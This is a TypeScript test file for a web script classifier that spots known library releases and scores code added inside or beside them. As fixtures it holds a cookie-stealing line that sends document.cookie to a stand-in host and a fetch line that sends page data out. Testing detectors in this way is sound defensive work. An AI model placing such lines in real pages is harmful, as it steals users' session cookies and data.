import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { KnownLibraries } from './libraries/known-libraries.ts';
import { LibraryFiles } from './libraries/library-files.ts';
import { releaseOf } from './libraries/library-release.ts';
import { classifyScript } from './script-classifier.ts';

const library = readFileSync('node_modules/uplot/dist/uPlot.iife.js', 'utf8');
const { version } = JSON.parse(readFileSync('node_modules/uplot/package.json', 'utf8'));
const thief = `new Image().src = '//x.test/?' + document.cookie;`;

const known = new KnownLibraries(
  [library, thief].flatMap((code) => releaseOf('charts', version, code) ?? []),
);

function scored(code: string, libraries = known) {
  const verdict = classifyScript(code, libraries);
  assert.ok(verdict.kind === 'scored');
  return { ...verdict, ids: verdict.reasons.map(({ family, id }) => `${family}/${id}`) };
}

describe('script classifier: known libraries', () => {
  it('names an unchanged release, which has a good score whatever it does', () => {
    const { library, scores, ids } = scored(thief);
    assert.deepEqual(library, { name: 'charts', version, match: 'unchanged' });
    assert.equal(scores.integrity, 80);
    assert.ok(ids.includes('library/known-release') && ids.some((id) => /^malware/.test(id)));
    assert.ok(scored(`${thief};a()`).scores.integrity < 10);
  });

  it('names a changed release without points if the new code does nothing of interest', () => {
    const {
      library: found,
      scores,
      ids,
    } = scored(`${library}\nfunction more(a) { return a.b.c.d.e.f; }`);
    assert.equal(found?.match, 'changed');
    assert.equal(scores.integrity, scored(library, new KnownLibraries([])).scores.integrity);
    assert.ok(ids.includes('library/changed-release'));
  });

  const sending = `fetch('https://x.test/' + document.title + screen.width);`;

  it('has a reason with points if new code inside of the release sends data, which alone is not sufficient', () => {
    const { scores, reasons } = scored(library.replace(/function \w+\(/, `${sending}$&`));
    assert.ok(scores.integrity >= 10);
    assert.equal(reasons.find(({ id }) => id === 'code-inside-library')?.points, 25);
  });

  it('has one with few points if the new code is beside the release', () => {
    const { scores, reasons } = scored(`${library}\n${sending}`);
    assert.ok(scores.integrity >= 10);
    const reason = reasons.find(({ id }) => id === 'code-beside-library');
    assert.equal(reason?.points, 10);
    assert.match(reason.what, /^Is charts \d.* with code beside it that sends data/);
    assert.equal(reason.line, library.split('\n').length + 1);
  });

  it('ships releases of libraries that many pages load', () => {
    const shipped = new LibraryFiles().current();
    const installed = scored(library, shipped);
    assert.equal(installed.library, undefined);
    const text = readFileSync(new URL('./libraries/shipped-releases.txt', import.meta.url), 'utf8');
    assert.ok(text.length < 300_000);
    for (const name of ['jquery 3.7.1', 'vue 3.5.13', 'bootstrap 5.3.8']) {
      assert.ok(text.includes(`\n${name} `), name);
    }
  });
});
